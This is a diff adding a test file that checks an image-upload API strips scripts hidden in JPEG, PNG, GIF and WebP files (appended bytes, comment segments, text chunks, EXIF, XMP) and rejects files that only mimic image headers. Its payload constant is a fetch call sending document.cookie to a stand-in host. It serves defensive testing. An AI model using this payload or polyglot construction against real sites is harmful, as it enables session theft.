@@ -1,0 +1,121 @@
+import { crc32 } from 'node:zlib'
+import sharp from 'sharp'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { startTestApp, type TestApp } from '../../support/app.ts'
+import { signUp, type Member } from '../../support/members.ts'
+
+let app: TestApp
+let editor: Member
+beforeAll(async () => {
+  app = await startTestApp()
+  editor = await signUp(app, { role: 'editor' })
+})
+afterAll(() => app.close())
+
+async function upload(payload: Buffer) {
+  const headers = { ...editor.headers, 'content-type': 'image/png' }
+  const response = await app.inject({ method: 'POST', url: '/api/pictures', payload, headers })
+  return { status: response.statusCode, body: response.json() }
+}
+
+/** Nothing that a filter would know: only what is made anew from its pixels is sure to be without it. */
+const stowaway = Buffer.from('=1;fetch("//elsewhere.example/"+document.cookie)//')
+
+const picture = () =>
+  sharp({ create: { width: 90, height: 60, channels: 3, background: { r: 20, g: 90, b: 160 } } })
+const joined = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))
+const number = (size: 2 | 4, value: number) => {
+  const bytes = Buffer.alloc(size)
+  bytes.writeUIntBE(value, 0, size)
+  return bytes
+}
+
+/** A PNG with one more chunk behind its header. */
+async function withChunk(name: string, data: Buffer) {
+  const png = await picture().png().toBuffer()
+  const body = joined(name, data)
+  const chunk = joined(number(4, data.length), body, number(4, crc32(body)))
+  return joined(png.subarray(0, 33), chunk, png.subarray(33))
+}
+
+/** A JPEG with one more segment behind its first bytes. */
+async function withSegment(marker: number, data: Buffer) {
+  const jpeg = await picture().jpeg().toBuffer()
+  const segment = joined(Buffer.from([0xff, marker]), number(2, data.length + 2), data)
+  return joined(jpeg.subarray(0, 2), segment, jpeg.subarray(2))
+}
+
+describe('a picture that is something else as well', () => {
+  const cases: [string, () => Promise<Buffer>][] = [
+    ['a script behind a JPEG', async () => joined(await picture().jpeg().toBuffer(), stowaway)],
+    ['a script behind a PNG', async () => joined(await picture().png().toBuffer(), stowaway)],
+    ['a script behind a GIF', async () => joined(await picture().gif().toBuffer(), stowaway)],
+    ['a script behind a WebP', async () => joined(await picture().webp().toBuffer(), stowaway)],
+    [
+      'an archive of another kind behind a PNG',
+      async () => joined(await picture().png().toBuffer(), '7z\xbc\xaf\x27\x1c', stowaway),
+    ],
+    ['a script in the comment of a JPEG', () => withSegment(0xfe, stowaway)],
+    ['a script where a JPEG keeps what programs note', () => withSegment(0xeb, stowaway)],
+    ['a script in the text of a PNG', () => withChunk('tEXt', joined('Comment\0', stowaway))],
+    ['a script in a chunk that nobody knows', () => withChunk('meLd', stowaway)],
+    [
+      'a script in the notes of the camera',
+      () =>
+        picture()
+          .withExif({ IFD0: { Copyright: stowaway.toString() } })
+          .jpeg()
+          .toBuffer(),
+    ],
+    [
+      'a script in what describes the picture',
+      () =>
+        picture()
+          .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${stowaway.toString()}</x:xmpmeta>`)
+          .jpeg()
+          .toBuffer(),
+    ],
+  ]
+  it.each(cases)('is served without a byte of it: %s', async (_name, make) => {
+    const file = await make()
+    expect(file.includes(stowaway)).toBe(true)
+    const { status, body } = await upload(file)
+    expect([status, body.error]).toEqual([201, undefined])
+    for (const width of [800, 1600]) {
+      const { rawPayload } = await app.inject(body.imageUrl.replace('1600', String(width)))
+      expect(rawPayload.includes(stowaway)).toBe(false)
+      // One WebP from the first byte to the last, and in it nothing but the picture.
+      expect(rawPayload.subarray(0, 4).toString()).toBe('RIFF')
+      expect(rawPayload.readUInt32LE(4) + 8).toBe(rawPayload.length)
+      expect(rawPayload.subarray(8, 16).toString()).toBe('WEBPVP8 ')
+    }
+  })
+})
+
+describe('what only begins like a picture', () => {
+  const nothing = Buffer.alloc(400, ' ')
+  it.each([
+    ['a JPEG', Buffer.from('ffd8ffe0', 'hex')],
+    ['a PNG', Buffer.from('89504e470d0a1a0a', 'hex')],
+    ['a GIF', Buffer.from('GIF89a')],
+    ['a WebP', joined('RIFF', number(4, 400), 'WEBP')],
+    ['an AVIF', joined(number(4, 32), 'ftypavif')],
+  ])('is refused with a sentence: a script that claims to be %s', async (_name, start) => {
+    const { status, body } = await upload(joined(start, stowaway, nothing))
+    expect(status).toBe(400)
+    expect(body.error).toBe('This picture is damaged or incomplete. Please choose another file.')
+  })
+
+  it.each([
+    ['an archive', joined('PK\x03\x04', stowaway)],
+    ['a script', stowaway],
+    ['a BMP', joined('BM', nothing)],
+    ['a TIFF', joined('II*\0', nothing)],
+    ['a PDF', joined('%PDF-1.7\n', nothing)],
+    ['an SVG', joined('<svg xmlns="http://www.w3.org/2000/svg"/>')],
+  ])('is refused where it does not even do that: %s', async (_name, file) => {
+    const { status, body } = await upload(file)
+    expect(status).toBe(415)
+    expect(body.error).toMatch(/^This file .*\.$/)
+  })
+})
